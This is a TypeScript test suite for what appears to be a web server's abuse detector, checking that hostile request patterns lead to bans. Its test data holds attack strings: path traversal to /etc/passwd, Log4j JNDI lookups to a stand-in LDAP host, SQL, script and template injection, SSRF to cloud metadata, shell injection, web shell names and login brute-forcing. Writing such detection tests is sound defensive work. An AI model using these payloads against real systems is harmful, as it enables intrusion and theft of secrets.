import { type Asked, play } from './scene.spec-support.js';

const browser = 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0';
const asked = (url: string, more: Partial<Asked> = {}): Asked => ({
  url,
  headers: { 'user-agent': browser },
  ...more,
});

/** What an app of one page answers to everything. */
const FALLBACK = { status: 200, route: '/{*path}' };

/** Half of what bans, or more, at the first request. */
const CERTAIN: readonly (readonly [string, string])[] = [
  ['a way out of the folder', '/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd'],
  ['the same, encoded twice', '/a/%252e%252e/%252e%252e/%252e%252e/etc/passwd'],
  ['the same in overlong UTF-8', '/a?file=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd'],
  ['the same with backslashes', '/a/..%5c..%5c..%5cwindows/win.ini'],
  ['the same with parameters of segments', '/..;/manager/html'],
  ['a look-up of log4j', '/?q=$%7Bjndi:ldap://e.example/a%7D'],
  ['the same in pieces', '/?q=$%7B$%7B::-j%7D$%7B::-n%7Ddi:ldap://e.example/a%7D'],
  ['a wrapper of PHP', '/?page=php://filter/convert.base64-encode/resource=index'],
  ['an interpreter that is called', '/?s=index/%5Cthink%5Capp/invokefunction&function=call_user_func_array'],
  ["Java's own folder", '/s/x/_/;/WEB-INF/web.xml'],
  ['a solution of Ignition', '/_ignition/execute-solution'],
  ['a web shell', '/uploads/c99.php'],
  ['a file with secrets', '/.env'],
  ['its backup', '/api/.env.bak'],
  ['the same in disguise', '/./%252eenv;x=y'],
];

describe('what no honest client asks for', () => {
  it.each(CERTAIN)('counts half or more at once, whatever an app of one page answers: %s', async (_, url) => {
    for (const answer of [{}, FALLBACK, { status: 401 }]) {
      const { share } = await play([asked(url, answer)]);
      expect(share).toBeGreaterThanOrEqual(0.5);
    }
  });

  it('counts little where a handler that names the path has served it, or another site made a browser ask', async () => {
    const served = await play([asked('/search?q=$%7Bjndi:ldap://x/a%7D', { status: 200, route: '/search' })]);
    expect(served.share).toBeLessThanOrEqual(0.1);
    const headers = { 'user-agent': browser, 'sec-fetch-site': 'cross-site' };
    const { share } = await play([asked('/.env', { headers })]);
    expect(share).toBeLessThanOrEqual(0.05);
  });

  it('counts in full in a header that logs keep', async () => {
    const headers = { 'user-agent': browser, referer: '$' + '{jndi:ldap://e.example/a}' };
    const { share } = await play([asked('/search', { status: 200, route: '/search', headers })]);
    expect(share).toBeGreaterThanOrEqual(0.5);
  });
});

const INJECTIONS: readonly (readonly [string, string])[] = [
  ['SQL that is always true', "/a?id=1'%20or%20'1'='1"],
  ['SQL in comments', '/a?id=1/**/oR/**/1=1'],
  ['SQL that takes its time', '/a?id=1%20and%20sleep(5)'],
  ['a script', '/a?q=%3Cscript%3Ealert(1)%3C/script%3E'],
  ['a handler in an element', '/a?q=%3Cimg%20src=x%20onerror=alert(1)%3E'],
  ['a script in entities', '/a?q=%26lt;script%26gt;'],
  ['a template', '/a?q=%7B%7B7*7%7D%7D'],
  ['an expression', '/a?q=%23%7B7*7%7D'],
  ['an operator of a database', '/a?user[$ne]=x'],
  ['a name that all objects have', '/a?__proto__[admin]=1'],
  ["the cloud's answers about a machine", '/a?url=http://169.254.169.254/latest/meta-data'],
  ['a header', '/a?q=x%0d%0aSet-Cookie:%20a=b'],
  ['a shell', '/a?host=x;cat%20/etc/hosts'],
];

describe('an injection', () => {
  it.each(INJECTIONS)('counts by what it is, not by its numbers: %s', async (_, url) => {
    const once = await play([asked(url, FALLBACK)]);
    expect(once.share).toBeGreaterThanOrEqual(0.1);
    const again = await play([url, url.replaceAll('1', '2')].map((each) => asked(each, FALLBACK)));
    expect(again.bannedBy).toEqual([]);
  });

  it('after another bans, in whichever parameter', async () => {
    const { bannedBy, after } = await play(INJECTIONS.map(([, url]) => asked(url, FALLBACK)));
    expect(bannedBy).toHaveLength(1);
    expect(after).toBeLessThanOrEqual(6);
  });
});

describe('who takes their time', () => {
  it('is banned for paths that nobody has, one in three seconds', async () => {
    const paths = Array.from({ length: 800 }, (_, index) => asked(`/page-${index}`, { after: 3 }));
    expect(await play(paths)).toMatchObject({ bannedBy: ['path-probing'], after: 600 });
  });

  it('is banned for two thousand values of one parameter', async () => {
    const ids = Array.from({ length: 2_000 }, (_, id) =>
      asked(`/coupon?code=${id}`, { route: '/coupon', after: 1 }),
    );
    expect((await play(ids)).bannedBy).toEqual(['id-probing']);
  });

  it('is banned for guesses at a handler that has not said what they are', async () => {
    const guess = { method: 'POST', status: 401, route: '/login', after: 5 };
    const guesses = Array.from({ length: 1_000 }, () => asked('/login', guess));
    expect((await play(guesses)).bannedBy).toEqual(['refused-attempts']);
  });

  it('is banned for passwords of which a handler says that they are wrong', async () => {
    const guesses = Array.from({ length: 20 }, (_, index) =>
      asked('/board', {
        ...{ status: 401, route: '/board', after: 50 },
        headers: { authorization: `Basic ${btoa(`admin:${index}`)}`, cookie: 'sid=1' },
      }),
    );
    expect(await play(guesses)).toMatchObject({ bannedBy: ['password-guessing'], after: 10 });
  });

  it('is banned for secrets in bodies, whatever the path, the cookie and the account', async () => {
    const guesses = (count: number, body: (index: number) => unknown) =>
      Array.from({ length: count }, (_, index) =>
        asked('/client', {
          ...{ method: 'POST', status: 403, route: '/client', after: 12, body: body(index) },
          headers: { 'user-agent': browser, cookie: 'sid=1' },
        }),
      );
    for (const body of [
      (index: number) => ({ user: 'ada', password: `${index}` }),
      (index: number) => ({ user: `u${index}`, password: 'Summer2030' }),
      (index: number) => ({ variables: { input: { email: `${index}@b.example`, userPin: 1_234 } } }),
      (index: number) => [{ code: index }],
    ])
      expect((await play(guesses(50, body))).bannedBy).toEqual(['secret-guessing']);
    // A day's worth of few.
    const slow = guesses(250, (index) => ({ otp: index })).map((guess) => ({ ...guess, after: 200 }));
    expect(await play(slow)).toMatchObject({ bannedBy: ['secret-guessing'], after: 200 });
    const same = guesses(400, (index) => ({ at: index, user: 'ada', password: 'old' }));
    expect((await play(same)).share).toBeLessThan(0.1);
  });

  it('is banned for folders of a list of words, fewer than of other paths', async () => {
    const folders = words(
      '/admin /test /backup /old /dev /staging /db /sql /tmp /config /logs /upload /private /src /bin /lib /data',
    );
    expect(await play(folders.map((url) => asked(url, { after: 60 })))).toMatchObject({
      bannedBy: ['folder-guessing'],
      after: 17,
    });
  });

  it('is banned where all that is unknown is closed', async () => {
    const paths = Array.from({ length: 100 }, (_, index) =>
      asked(`/p${index}`, { status: 401, route: '/{*path}' }),
    );
    expect((await play(paths)).bannedBy).toEqual(['path-probing']);
  });
});

describe('who walks through the things of others', () => {
  const walk = (count: number, more: Partial<Asked>): readonly Asked[] =>
    Array.from({ length: count }, (_, id) =>
      asked(id % 2 ? `/orders/${id}` : `/orders?id=${id}`, { route: '/orders/:id', ...more }),
    );

  it.each([
    [403, 'forbidden-ids'],
    [404, 'id-probing'],
  ])('is told of by what they have proven, quick or slow, for a %i', async (status, rule) => {
    const known = { status, user: 'ada', headers: { authorization: 'Bearer x' } };
    expect(await play(walk(300, known))).toMatchObject({ bannedBy: [], abusedBy: [rule] });
    expect(await play(walk(299, known))).toMatchObject({ bannedBy: [], abusedBy: [] });
    expect(await play(walk(1_600, { ...known, after: 2 }))).toMatchObject({ bannedBy: [], abusedBy: [rule] });
  });

  it('is banned where only the app itself knows them', async () => {
    const known = { status: 403, headers: { cookie: 'sid=1' } };
    expect(await play(walk(400, known))).toMatchObject({ bannedBy: ['forbidden-ids'], after: 300 });
    expect((await play(walk(1_600, { ...known, after: 2 }))).bannedBy).toEqual(['forbidden-ids']);
  });
});

it('mistakes of somebody known are never charged to the address', async () => {
  const misses = Array.from({ length: 900 }, (_, id) =>
    asked(`/orders/${id}`, { route: '/orders/:id', user: 'ada' }),
  );
  expect(await play(misses)).toMatchObject({ bannedBy: [], share: 0 });
});

/** What tools for floods take in turn. */
const OLD_AGENTS = [
  'Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)',
  'Mozilla/5.0 (X11; U; Linux x86_64; en-US; rv:1.9.1.3) Gecko/20090913 Firefox/3.5.3',
  'Mozilla/5.0 (Windows; U; Windows NT 5.2; en-US) AppleWebKit/532.1 (KHTML, like Gecko) Chrome/4.0.219.6 Safari/532.1',
  'Opera/9.64 (Windows NT 5.1; U; en) Presto/2.1.1',
  'Mozilla/5.0 (Macintosh; U; PPC Mac OS X; de-de) AppleWebKit/312.5 (KHTML, like Gecko) Safari/312.3',
  'Nokia6230/2.0 (04.44) Profile/MIDP-2.0 Configuration/CLDC-1.1',
  'Mozilla/4.76 [en] (X11; U; SunOS 5.8 sun4u)',
];

/** Few requests, each of which says little by itself. */
const OF_FEW: readonly (readonly [string, readonly Asked[], number])[] = [
  ['guesses at the login of WordPress', repeated(6, { url: '/wp-login.php', method: 'POST' }), 6],
  ['guesses by XML-RPC', repeated(6, { url: '/xmlrpc.php', method: 'POST' }), 6],
  ['guesses at the login of a blog', repeated(6, { url: '/ghost/api/admin/session', method: 'POST' }), 6],
  ['users of WordPress by their numbers', [1, 2, 3, 4, 5].map((id) => asked(`/?author=${id}`)), 5],
  [
    'the same by its other ways',
    [
      ...['/blog/?author=1', '/index.php?author=2', '/?rest_route=/wp/v2/users/1', '/~root/'],
      '/?q=admin/views/ajax/autocomplete/user/a',
    ].map((url) => asked(url)),
    5,
  ],
  [
    'programs of intruders by their names, which say nothing',
    words('/x.php /z1.php /up.php /aaa.php /wp.aspx').map((url) => asked(url, { method: 'POST' })),
    5,
  ],
  [
    'programs that are put there',
    words('/a.jsp/ /b.jsp%20 /c.php').map((url) => asked(url, { method: 'PUT' })),
    3,
  ],
  [
    'a login that the query names',
    repeated(6, { url: '/index.php?module=Users&action=Authenticate', method: 'POST' }),
    6,
  ],
  ['a proxy that anybody may use', [1, 2, 3].map((id) => asked(`http://elsewhere.example/${id}`)), 3],
  [
    'web shells by their names',
    ['/c99shell.php', '/up/aspxspy.aspx', '/neoreg.jsp'].map((url) => asked(url)),
    3,
  ],
  ['pages of SAP', ['/irj/portal', '/webdynpro/x', '/ctc/servlet/x'].map((url) => asked(url)), 3],
  [
    'a flood that is dressed by an old list of agents',
    OLD_AGENTS.map((agent) =>
      asked('/', { status: 200, route: '/', headers: { 'user-agent': agent }, after: 2 }),
    ),
    7,
  ],
  [
    'a flood of paths that say nothing',
    Array.from({ length: 50 }, (_, index) =>
      asked(`/QX${'ABCDEFGHIJ'[index % 10]}ZW${'KLMNO'[Math.floor(index / 10)]}`),
    ),
    50,
  ],
  [
    'a flood that no cache can answer',
    Array.from({ length: 20 }, (_, index) => asked(`/?Xy${index}Z=q${index}`, { status: 200, route: '/' })),
    20,
  ],
];

function repeated(count: number, request: Asked): readonly Asked[] {
  return Array.from({ length: count }, () => asked(request.url, request));
}

/** Where products take passwords by a form, of each way to make them. */
const FORMS = words(`
  /index.php/login /shop/index.php/admin /session_login.cgi /login_up.php /CMD_LOGIN /cpsess1234/login /cas/login /guacamole/api/tokens /zimbra/
  /SOGo/connect /webmail/?_task=login /mail/horde/login /rainloop/?/Ajax/ /redmine/login /sonarr/login /web/session/authenticate
  /j_spring_security_check /jenkins/j_acegi_security_check /service/rapture/session /rest/V1/integration/admin/token /owa/auth.owa /webapi/auth.cgi
  /api2/extjs/access/ticket /_session /realms/master/login-actions/authenticate /zm/api/host/login.json /moodle/login/index.php /manager/html
  /login.php /admin/login.aspx /phpmyadmin/index.php /pma/index.php /adminer.php /administrator/index.php /user/login.do /auth.cgi /webadmin/main.cfm
`);

/** Logins that programs use as well. */
const LOGINS = words(`
  /api/login /auth/log-in /users/sign_in /account/signin /Users/AuthenticateByName /identity/connect/token /api/firstfactor /user/login?destination=node
  /api/auth/callback/credentials /auth/v1/token?grant_type=password /api/collections/users/auth-with-password /shop?route=account/login
  /api2/json/access/ticket /auth/realms/a/protocol/openid-connect/token /?_task=login /index.php?action=login2 /checklogin /api/v2/auth/login
`);

function words(text: string): readonly string[] {
  return text.trim().split(/\s+/);
}

describe('who guesses at a login that is not here, whatever is answered,', () => {
  const guesses = async (urls: readonly string[], count: number, after: number) => {
    const missed = [];
    for (const url of urls)
      for (const answer of [{}, { status: 401 }, { status: 302 }, FALLBACK]) {
        const guess = asked(url, { method: 'POST', after, ...answer });
        const { bannedBy } = await play(Array.from({ length: count }, () => guess));
        if (bannedBy.length === 0) missed.push([url, answer]);
      }
    return missed;
  };

  it('is banned at a form by six, however slow', async () => {
    expect(await guesses(FORMS, 6, 300)).toEqual([]);
  });

  it('is banned where programs log in, too, by ten that are quick', async () => {
    expect(await guesses(LOGINS, 10, 0.4)).toEqual([]);
  });
});

describe('who sends few requests is banned:', () => {
  it.each(OF_FEW)('%s', async (_, requests, most) => {
    const { after } = await play(requests);
    expect(after).toBeLessThanOrEqual(most);
    const { after: inFallback } = await play(
      requests.map((each) => ({ ...each, status: 200, route: each.route ?? '/{*path}' })),
    );
    expect(inFallback).toBeLessThanOrEqual(most);
  });
});

describe('who says that another site has made a browser ask', () => {
  const forged = { 'user-agent': browser, 'sec-fetch-site': 'cross-site' };

  it('is believed for what a page full of pictures asks for, and no longer', async () => {
    const looks = (count: number) =>
      Array.from({ length: count }, (_, index) => asked(`/.git/${index}`, { headers: forged }));
    expect((await play(looks(20))).bannedBy).toEqual([]);
    expect(await play(looks(30))).toMatchObject({ bannedBy: ['telltale-path'], after: 21 });
  });

  it('is not believed where no page can ask so, or set the header', async () => {
    const written = asked('/.env', { method: 'PUT', headers: forged });
    expect((await play([written])).share).toBeGreaterThanOrEqual(0.5);
    const headers = { ...forged, 'x-forwarded-for': '$' + '{jndi:ldap://e.example/a}' };
    expect((await play([asked('/', { headers })])).share).toBeGreaterThanOrEqual(0.5);
  });
});
